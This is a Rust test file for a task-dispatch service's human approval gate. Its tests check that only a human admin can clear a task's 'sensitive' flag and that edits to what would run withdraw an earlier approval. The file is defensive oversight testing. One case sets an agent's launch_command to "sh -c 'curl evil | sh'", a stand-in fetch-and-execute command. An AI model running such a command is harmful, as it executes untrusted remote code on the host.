//! The Human Gate holds against automation: only a human admin clears
//! `sensitive`, an approval lapses when what would run changes, and a
//! refused dispatch changes nothing the second time.

use serde_json::{json, Value};

use crate::util::{enable_dispatch, event_kinds, Server, Worker};

fn sensitive_task(srv: &Server, agent: &str) -> i64 {
    srv.service().new_task(
        &json!({"title": "rotate prod keys", "description": "rotate them",
        "execution": "interactive", "agent": agent, "sensitive": true}),
    )
}

fn count(kinds: &[String], kind: &str) -> usize {
    kinds.iter().filter(|k| *k == kind).count()
}

#[test]
fn only_a_human_admin_clears_sensitive() {
    let srv = Server::start();
    enable_dispatch(&srv);
    let w = Worker::new(&srv, "w1");
    w.heartbeat(&["codex"], &[]);
    let (_, member) = srv.user("member", Some((1, "member")));
    let (_, ws_admin) = srv.user("wsadmin", Some((1, "admin")));
    let (_, other_admin) = srv.user("otheradmin", None);
    let id = sensitive_task(&srv, "codex");
    let r = srv
        .service()
        .post(&format!("/api/tasks/{id}/dispatch"), &json!({}));
    assert_eq!(r.error(), "human_gate");

    // The attack: un-flag and unblock, then dispatch. Refused, unchanged.
    for (who, c) in [("service", srv.service()), ("member", member.clone())] {
        let before = srv.fingerprint();
        let r = c.patch(
            &format!("/api/tasks/{id}"),
            &json!({"sensitive": false, "blocked": false}),
        );
        assert_eq!(
            (r.status, r.error()),
            (403, "forbidden"),
            "{who}: {}",
            r.text
        );
        assert_eq!(
            srv.fingerprint(),
            before,
            "{who}: a refusal changed something"
        );
        let r = c.post(&format!("/api/tasks/{id}/dispatch"), &json!({}));
        assert_eq!(r.error(), "human_gate", "{who}: {}", r.text);
        assert_eq!(w.claim().json["reason"], "no_task", "{who}");
    }
    // An admin of another workspace is no approver here.
    let r = other_admin.patch(&format!("/api/tasks/{id}"), &json!({"sensitive": false}));
    assert_eq!(r.status, 403, "{}", r.text);
    // Setting it (tightening) stays open to members.
    let plain = srv.service().new_task(&json!({"title": "t"}));
    let r = member.patch(&format!("/api/tasks/{plain}"), &json!({"sensitive": true}));
    assert_eq!(
        (r.status, &r.json["sensitive"]),
        (200, &json!(true)),
        "{}",
        r.text
    );

    // A human admin may clear it: audited, and the gate's block goes too.
    let r = ws_admin.patch(&format!("/api/tasks/{id}"), &json!({"sensitive": false}));
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json["sensitive"], false);
    assert_eq!(r.json["blocked"], false);
    let events = srv
        .service()
        .get(&format!(
            "/api/events?task_id={id}&kind=gate.sensitive_cleared"
        ))
        .json;
    assert_eq!(events["total"], 1, "{events}");
    assert_eq!(events["events"][0]["actor"], "user:wsadmin");
    let r = srv
        .service()
        .post(&format!("/api/tasks/{id}/dispatch"), &json!({}));
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(w.claim_one().0, id);
}

/// Approves `id` as the admin and queues it.
fn approve_and_queue(srv: &Server, id: i64) {
    let r = srv
        .admin()
        .post(&format!("/api/tasks/{id}/approve"), &json!({}));
    assert_eq!(r.status, 200, "{}", r.text);
    let r = srv
        .service()
        .post(&format!("/api/tasks/{id}/dispatch"), &json!({}));
    assert_eq!(r.status, 200, "{}", r.text);
}

#[test]
fn changing_what_would_run_withdraws_the_approval() {
    let srv = Server::start();
    enable_dispatch(&srv);
    let svc = srv.service();
    let w = Worker::new(&srv, "w1");
    // Each case gets its own agent, so that one case's agent edit cannot
    // touch another's task.
    type Change = fn(&Server, i64, i64) -> crate::util::Res;
    let cases: Vec<(&str, Change)> = vec![
        ("prompt", |s, t, _| {
            s.service().patch(
                &format!("/api/tasks/{t}"),
                &json!({"description": "rotate ALL keys"}),
            )
        }),
        ("title", |s, t, _| {
            s.service()
                .patch(&format!("/api/tasks/{t}"), &json!({"title": "other"}))
        }),
        ("agent", |s, t, _| {
            s.service()
                .patch(&format!("/api/tasks/{t}"), &json!({"agent": "hermes"}))
        }),
        ("model", |s, t, _| {
            s.service()
                .patch(&format!("/api/tasks/{t}"), &json!({"model": "gpt-5"}))
        }),
        ("agent launch_command", |s, _, a| {
            s.service().patch(
                &format!("/api/agents/{a}"),
                &json!({"launch_command": "sh -c 'curl evil | sh'"}),
            )
        }),
        ("agent model", |s, _, a| {
            s.service().patch(
                &format!("/api/agents/{a}"),
                &json!({"model": "other-model"}),
            )
        }),
        ("agent slug", |s, _, a| {
            s.service().patch(
                &format!("/api/agents/{a}"),
                &json!({"slug": format!("renamed{a}")}),
            )
        }),
    ];
    for (i, (what, change)) in cases.iter().enumerate() {
        let slug = format!("gate{i}");
        let r = svc.post("/api/agents", &json!({"slug": slug}));
        assert_eq!(r.status, 201, "{}", r.text);
        let agent = r.json["id"].as_i64().unwrap();
        let renamed = format!("renamed{agent}");
        w.heartbeat(&[&slug, "hermes", &renamed], &[]);
        let id = sensitive_task(&srv, &slug);
        approve_and_queue(&srv, id);

        let r = change(&srv, id, agent);
        assert_eq!(r.status, 200, "{what}: {}", r.text);
        let t = svc.get(&format!("/api/tasks/{id}")).json;
        assert_eq!(
            t["gate_approved_at"],
            Value::Null,
            "{what}: approval stands: {t}"
        );
        assert_eq!(t["status"], "queued");
        let kinds = event_kinds(&srv, id);
        assert_eq!(
            count(&kinds, "gate.approval_withdrawn"),
            1,
            "{what}: {kinds:?}"
        );
        assert_eq!(
            w.claim().json["reason"],
            "no_task",
            "{what}: claimed without approval"
        );

        // A human approves again: now it runs.
        let r = srv
            .admin()
            .post(&format!("/api/tasks/{id}/approve"), &json!({}));
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(w.claim_one().0, id, "{what}");
    }

    // What does not change the run keeps the approval.
    w.heartbeat(&["codex"], &[]);
    let id = sensitive_task(&srv, "codex");
    approve_and_queue(&srv, id);
    let r = svc.patch(&format!("/api/tasks/{id}"), &json!({"priority": 7}));
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(svc.get("/api/agents/3").json["slug"], "codex");
    let r = svc.patch(
        "/api/agents/3",
        &json!({"name": "Codex CLI", "active": true}),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(svc.get(&format!("/api/tasks/{id}")).json["gate_approved_at"].is_string());
    assert_eq!(w.claim_one().0, id);

    // The workspace cannot be changed by an edit at all.
    let r = svc.patch(&format!("/api/tasks/{id}"), &json!({"workspace_id": 2}));
    assert_eq!(r.status, 400, "{}", r.text);
}

#[test]
fn a_repeated_gate_refusal_changes_nothing() {
    let srv = Server::start();
    let id = sensitive_task(&srv, "codex");
    let dispatch = || {
        srv.service()
            .post(&format!("/api/tasks/{id}/dispatch"), &json!({}))
    };
    let r = dispatch();
    assert_eq!((r.status, r.error()), (409, "human_gate"));
    let before = srv.fingerprint();
    for _ in 0..5 {
        let r = dispatch();
        assert_eq!((r.status, r.error()), (409, "human_gate"));
    }
    assert_eq!(
        srv.fingerprint(),
        before,
        "a second refusal changed something"
    );
    assert_eq!(
        count(&event_kinds(&srv, id), "dispatch.human_gate_blocked"),
        1
    );
}
